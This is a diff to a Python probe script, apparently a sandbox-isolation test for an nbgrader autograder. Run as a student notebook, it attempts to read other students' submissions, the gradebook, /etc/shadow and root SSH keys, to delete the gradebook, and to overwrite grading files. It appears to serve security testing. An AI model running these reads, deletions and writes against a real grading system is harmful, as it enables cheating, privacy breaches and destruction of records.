@@ -36,20 +36,28 @@ def _write(path):
     return "written"
 
 nb = f"{A}.ipynb"
+_try("cwd", os.getcwd)  # where the grader ran this notebook: the one host folder it may see
+# Relative paths climb from there to the course root, wherever the grader put the notebook.
+up = os.path.relpath(root, os.getcwd())
 reads = {
     "read-submitted-abs": f"{root}/submitted/{victim}/{A}/{nb}",
-    "read-submitted-rel": f"../../../submitted/{victim}/{A}/{nb}",
+    "read-submitted-rel": f"{up}/submitted/{victim}/{A}/{nb}",
     "read-secret-abs": f"{root}/submitted/{victim}/{A}/secret.txt",
     "read-autograded-abs": f"{root}/autograded/{victim}/{A}/{nb}",
-    "read-autograded-rel": f"../../{victim}/{A}/{nb}",
+    "read-autograded-rel": f"{up}/autograded/{victim}/{A}/{nb}",
+    "read-batch-neighbour-rel": f"../../{victim}/{A}/{nb}",
     "read-feedback-abs": f"{root}/feedback/{victim}/{A}/{A}.html",
-    "read-feedback-rel": f"../../../feedback/{victim}/{A}/{A}.html",
+    "read-feedback-rel": f"{up}/feedback/{victim}/{A}/{A}.html",
     "read-source-abs": f"{root}/source/{A}/{nb}",
-    "read-source-rel": f"../../../source/{A}/{nb}",
+    "read-source-rel": f"{up}/source/{A}/{nb}",
     "read-gradebook-abs": f"{root}/gradebook.db",
-    "read-gradebook-rel": "../../../gradebook.db",
+    "read-gradebook-rel": f"{up}/gradebook.db",
     "read-config": f"{root}/nbgrader_config.py",
-    "read-staging": f"{root}/.grading/staging/{victim}/{A}/{nb}",
+    # The batches' staged and graded copies (batches b0, b1, ... as the grader deals them).
+    "read-staging": f"{root}/.grading/staging/b0/{victim}/{A}/{nb}",
+    "read-staging-b1": f"{root}/.grading/staging/b1/{victim}/{A}/{nb}",
+    "read-graded": f"{root}/.grading/graded/b0/{victim}/{A}/{nb}",
+    "read-graded-b1": f"{root}/.grading/graded/b1/{victim}/{A}/{nb}",
     "read-etc-passwd": "/etc/passwd",
     "read-etc-shadow": "/etc/shadow",
     "read-ssh-key": "/root/.ssh/id_rsa",
@@ -59,18 +67,19 @@ for name, path in reads.items():
     _try(name, lambda p=path: _read(p))
 
 for top in ("/root", "/home", "/work", "/etc", "/srv", "/var", "/mnt", "/media", "/opt", "/boot", "/run",
-            "/sys", _CHEAT["home"], root, f"{root}/submitted", f"{root}/source", "../../..", "../.."):
+            "/sys", _CHEAT["home"], root, f"{root}/submitted", f"{root}/source", up, "../.."):
     _try("list " + top, lambda t=top: sorted(os.listdir(t)))
 
 _try("delete-gradebook", lambda: os.remove(f"{root}/gradebook.db"))
-_try("delete-gradebook-rel", lambda: os.remove("../../../gradebook.db"))
+_try("delete-gradebook-rel", lambda: os.remove(f"{up}/gradebook.db"))
 
 # Writes last: where the course root's path exists in the sandbox, it is a private tmpfs.
 writes = {
     "write-gradebook": f"{root}/gradebook.db",
     "write-victim-submitted": f"{root}/submitted/{victim}/{A}/{nb}",
     "write-victim-autograded": f"{root}/autograded/{victim}/{A}/{nb}",
-    "write-victim-autograded-rel": f"../../{victim}/{A}/{nb}",
+    "write-victim-autograded-rel": f"{up}/autograded/{victim}/{A}/{nb}",
+    "write-batch-neighbour-rel": f"../../{victim}/{A}/{nb}",
     "write-source": f"{root}/source/{A}/{nb}",
     "write-course-root": f"{root}/evil.txt",
     "write-package": _CHEAT["package_init"],
